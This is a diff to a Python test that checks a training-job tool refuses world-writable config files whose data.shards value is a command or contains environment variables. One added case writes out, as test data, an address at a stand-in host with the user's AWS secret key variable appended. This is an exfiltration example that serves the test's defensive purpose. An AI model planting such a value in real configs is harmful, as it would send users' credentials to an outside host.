@@ -149,15 +149,20 @@ def test_a_command_is_run_only_from_what_the_user_alone_can_write(place, new_run
     files.write_text(run.config, presets.to_yaml(settings))
     assert staging.address_of(run, settings.data) == here
     run.config.chmod(0o666)
-    with pytest.raises(ValueError, match=r"config\.yaml is writable by everybody, and its data\.shards is a command"):
+    with pytest.raises(ValueError, match=r"config\.yaml is writable by everybody, and its data\.shards is a command or"):
         staging.address_of(run, settings.data)
-    with pytest.raises(ValueError, match="is a command, which is not run"):
+    with pytest.raises(ValueError, match=r"so it is not used: start a run of your own"):
         staging.training_shards(run, settings.data)
     theirs = tmp_path / "theirs.yaml"
     theirs.write_text(f"data:\n  shards: '{here}'\n")
     theirs.chmod(0o666)
-    with pytest.raises(ValueError, match=r"theirs\.yaml is writable by everybody, and its data\.shards is a command: read it"):
+    with pytest.raises(ValueError, match=r"theirs\.yaml is writable by everybody, and its data\.shards .*: read it"):
         submit.main(["--config", str(theirs), *TINY])
+    sent = f"https://theirs.example/{'$'}AWS_SECRET_ACCESS_KEY"  # as an address to which a secret of the user would go
+    theirs.write_text(f"data:\n  shards: '{sent}'\n")
+    with pytest.raises(ValueError, match="or contains variables of the environment: read it"):
+        submit.main(["--config", str(theirs), *TINY])
+    theirs.write_text(f"data:\n  shards: '{here}'\n")
     theirs.chmod(0o644)
     if os.geteuid() == 0:
         os.chown(theirs, 4321, -1)
